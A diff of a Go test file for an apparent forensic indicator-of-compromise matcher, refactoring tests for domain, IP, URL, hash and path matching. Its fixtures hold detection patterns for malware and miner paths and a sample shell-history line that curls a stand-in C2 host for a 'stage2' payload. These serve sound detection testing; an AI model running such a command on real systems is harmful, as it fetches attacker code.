@@ -7,7 +7,6 @@ import (
 	"fmt"
 	"io"
 	"math/rand/v2"
-	"net/netip"
 	"os"
 	"path/filepath"
 	"runtime/debug"
@@ -20,132 +19,26 @@ import (
 
 	"github.com/hozen-dfir/hozen/analyze"
 	"github.com/hozen-dfir/hozen/analyze/ioc/list"
+	"github.com/hozen-dfir/hozen/analyze/ioc/scan"
 	"github.com/hozen-dfir/hozen/evidence"
 )
 
-func names(hits []Hit) string {
-	var out []string
-	for _, h := range hits {
-		out = append(out, h.Indicator)
-	}
-	return strings.Join(out, " ")
-}
-
-func TestMatchers(t *testing.T) {
-	s := set(t, boundaries+"sub.evil.example;80;a comment\n1.2.0.0/16\n")
-	for _, tc := range []struct {
-		what, got, want string
-	}{
-		{"domain", names(s.MatchDomain("A.sub.Evil.Example.")), "sub.evil.example evil.example"}, {"domain", names(s.MatchDomain("notevil.example")), ""},
-		{"domain", names(s.MatchDomain("bücher.example")), "bücher.example"}, {"domain", names(s.MatchDomain("")), ""}, {"domain", names(s.MatchDomain("a b")), ""},
-		{"ip", names(s.MatchIP(netip.MustParseAddr("1.2.3.4"))), "1.2.3.4 1.2.0.0/16"}, {"ip", names(s.MatchIP(netip.MustParseAddr("::ffff:192.0.2.1"))), "192.0.2.0/24"},
-		{"ip", names(s.MatchIP(netip.MustParseAddr("2001:db8:5::1%eth0"))), "2001:db8:5::/48"}, {"ip", names(s.MatchIP(netip.Addr{})), ""},
-		{"port", names(s.MatchHostPort("10.0.0.1", 8080)), "10.0.0.1:8080"}, {"port", names(s.MatchHostPort("10.0.0.1", 80)), ""}, {"port", names(s.MatchHostPort("x.c2.example", 99)), "c2.example:99"},
-		{"url", names(s.MatchURL("http://evil.test/a/b.php?x")), "http://evil.test/a/b.php"}, {"url", names(s.MatchURL("http://x.zone/only/path.arm7")), "/only/path.arm7"}, {"url", names(s.MatchURL("::")), ""},
-		{"email", names(s.MatchEmail("Bad@MAIL.test")), "bad@mail.test"}, {"email", names(s.MatchEmail("x@mail.test")), ""},
-		{"hash", names(s.MatchHash("D41D8CD98F00B204E9800998ECF8427E")), "d41d8cd98f00b204e9800998ecf8427e"}, {"hash", names(s.MatchHash("d41d")), ""},
-	} {
-		if tc.got != tc.want {
-			t.Errorf("%s: %q, want %q", tc.what, tc.got, tc.want)
-		}
-	}
-	want := Hit{Indicator: "sub.evil.example", Kind: "domain", File: "list.txt", Line: 14, Comment: "a comment", Score: 80}
-	if d := cmp.Diff(want, s.MatchDomain("sub.evil.example")[0]); d != "" {
-		t.Error(d)
-	}
-}
-
-func TestMatchPath(t *testing.T) {
-	s := set(t, "/tmp/.x/run\n/only/path.arm7\nC:\\Windows\\Temp\\X.exe\n%TEMP%\\y.exe\nevil.exe\n"+
-		`path:(?i)\\temp\\[a-z]\.(zip|exe)$`+"\n"+`path:^/dev/shm/\.`+"\n"+`path:\\procdump(64)?\.exe;50;(?i)sysinternals`+"\n"+`path:^[\\/]a.c$`+"\n")
-	for path, want := range map[string]string{
-		"/tmp/.x/run": "/tmp/.x/run", "/mnt/tmp/.x/run": "", "/tmp/.x/Run": "",
-		"/Windows/Temp/x.EXE": `C:\Windows\Temp\X.exe (?i)\\temp\\[a-z]\.(zip|exe)$`, `C:\windows\temp\x.exe`: `C:\Windows\Temp\X.exe (?i)\\temp\\[a-z]\.(zip|exe)$`,
-		"/Users/a/AppData/Local/Temp/y.exe": `%TEMP%\y.exe (?i)\\temp\\[a-z]\.(zip|exe)$`, "/a/xy.exe": "",
-		"/opt/EVIL.exe": "evil.exe", "/opt/notevil.exe": "", "/dev/shm/.k": `^/dev/shm/\.`, "/x/dev/shm/.k": "",
-		"/tools/procdump64.exe": `\\procdump(64)?\.exe`, "/SysInternals/procdump.exe": "", "/abc": `^[\\/]a.c$`, "": "", "\xff/\xfe": "",
-	} {
-		if got := names(s.MatchPath(path)); got != want {
-			t.Errorf("%q: %q, want %q", path, got, want)
-		}
-	}
-}
-
-// TestPathFilter: the filter never hides what an expression would match.
-func TestPathFilter(t *testing.T) {
-	exprs := []string{`(?i)kernel\\sys`, `\\(a|bcd|efgh)\.exe`, `abc+d`, `(abc)?def`, `x{0,2}yz`, `[kK]it`, `(?i)\x{17f}hot`, `a|b`, `.`, `(foo|bar)baz`, `\.(exe|dll)$`}
-	s := set(t, "path:"+strings.Join(exprs, "\npath:")+"\n")
-	m := s.expressions()
-	rng := rand.New(rand.NewPCG(5, 5))
-	parts := []string{"Kernel", "/", "\\", "sys", "a", "bcd", ".exe", "abc", "d", "def", "yz", "\u212Ait", "ſhot", "SHOT", "foo", "bar", "baz", ".DLL", ".dll", " "}
-	for range 20_000 {
-		var b strings.Builder
-		for range rng.IntN(6) {
-			b.WriteString(parts[rng.IntN(len(parts))])
-		}
-		path := b.String()
-		if path == "" {
-			continue
-		}
-		var want []string
-		for i := range m.exprs {
-			if m.exprs[i].match(pathForms(path)) {
-				want = append(want, m.exprs[i].src)
-			}
-		}
-		if got := names(s.MatchPath(path)); got != strings.Join(want, " ") {
-			t.Fatalf("%q: %q, want %q", path, got, want)
-		}
-	}
-}
-
-func TestTwins(t *testing.T) {
+// set compiles a list given as text.
+func set(t testing.TB, text string) *Set {
+	t.Helper()
 	b := NewBuilder()
-	for f := range 12 {
-		if err := b.File(fmt.Sprintf("f%d", f)); err != nil {
-			t.Fatal(err)
-		}
-		if err := b.Add(list.Indicator{Kind: list.Domain, Key: "evil.example", Raw: "evil.example", Line: f + 1, Score: list.NoScore}); err != nil {
-			t.Fatal(err)
-		}
+	if err := b.File("list.txt"); err != nil {
+		t.Fatal(err)
+	}
+	rep, err := list.Read(strings.NewReader(text), b.Add)
+	if err != nil || rep.Odd > 0 {
+		t.Fatalf("%v %+v", err, rep.Places)
 	}
 	s, err := b.Compile()
 	if err != nil {
 		t.Fatal(err)
 	}
-	hits := s.MatchDomain("evil.example")
-	if len(hits) != maxTwins || hits[7].File != "f7" || s.Duplicates() != 4 || s.Len() != 8 {
-		t.Errorf("%d listings, %d left out, %d kept", len(hits), s.Duplicates(), s.Len())
-	}
-}
-
-// TestLoadBlob: a damaged set is refused or harmless.
-func TestLoadBlob(t *testing.T) {
-	blob := set(t, boundaries).Marshal()
-	again, err := Load(bytes.Clone(blob))
-	if err != nil || names(again.MatchDomain("a.evil.example")) != "evil.example" {
-		t.Fatal(err)
-	}
-	for _, n := range []int{0, 8, 100, headSize, len(blob) - 1} {
-		if _, err := Load(blob[:n]); !errors.Is(err, ErrBlob) {
-			t.Errorf("cut at %d: %v", n, err)
-		}
-	}
-	rng := rand.New(rand.NewPCG(1, 1))
-	content := noise(rng, 4000)
-	for range 3000 {
-		bad := bytes.Clone(blob)
-		for range 1 + rng.IntN(8) {
-			bad[rng.IntN(len(bad))] ^= byte(1 << rng.IntN(8))
-		}
-		s, err := Load(bad)
-		if err != nil {
-			continue
-		}
-		NewScanner(s, func(p Place) { s.hit(p.entry - 1) }).Bytes(content)
-		s.MatchDomain("evil.example")
-		s.MatchPath("/tmp/x")
-	}
+	return s
 }
 
 func subject(b []byte, path string) *analyze.Subject {
@@ -217,7 +110,7 @@ type failing struct{}
 func (failing) ReadAt([]byte, int64) (int, error) { return 0, errors.New("bad sector") }
 
 func TestAnalyzerReadError(t *testing.T) {
-	s := set(t, boundaries)
+	s := set(t, "evil.example\n")
 	sub := &analyze.Subject{Record: evidence.Record{Path: "/x"}, Size: 10, Body: failing{}}
 	if err := New(s).Examine(context.Background(), sub, func(analyze.Finding) {}); err == nil || !strings.Contains(err.Error(), "bad sector") {
 		t.Errorf("%v", err)
@@ -278,7 +171,7 @@ func TestStarterList(t *testing.T) {
 	for path, want := range map[string]int{"/dev/shm/.x": 1, "/tmp/.a/kinsing": 1, "/var/tmp/xmrig": 1, "/etc/cron.d/.a": 1, "/etc/cron.d/.placeholder": 0,
 		"/dev/shm/x": 0, "/tmp/kinsing.log": 0, "/usr/lib/libx.so.1/.a": 1, "/usr/lib/libx.so.1": 0, "/tmp/.X11-unix/X0": 0, "/tmp/.X11-unix/evil.sh": 1} {
 		if got := s.MatchPath(path); len(got) != want {
-			t.Errorf("%s: %v", path, names(got))
+			t.Errorf("%s: %v", path, got)
 		}
 	}
 	found := examine(t, s, subject([]byte("curl http://c2.hozen-sweep-test.example/stage2; ping 203.0.113.214 2001:db8:686f:7a65::6e dropbox@hozen-sweep-test.example xmr.2miners.com:2222"), "/root/.bash_history"))
@@ -346,7 +239,7 @@ func TestMillion(t *testing.T) {
 		return nil
 	})
 	got := map[int64][]string{}
-	sc := NewScanner(s, func(p Place) { got[p.Offset] = append(got[p.Offset], string(s.text(s.entry(p.entry-1).key))) })
+	sc := scan.New(s, func(p scan.Place) { got[p.Offset] = append(got[p.Offset], s.Key(p.Entry)) })
 	if err := sc.Read(context.Background(), bytes.NewReader(b.Bytes()), int64(b.Len()), io.Discard); err != nil {
 		t.Fatal(err)
 	}
@@ -391,7 +284,7 @@ func BenchmarkScan(b *testing.B) {
 		}
 		return nil
 	})
-	sc := NewScanner(s, func(Place) {})
+	sc := scan.New(s, func(scan.Place) {})
 	b.SetBytes(int64(len(data)))
 	for b.Loop() {
 		sc.Bytes(data)
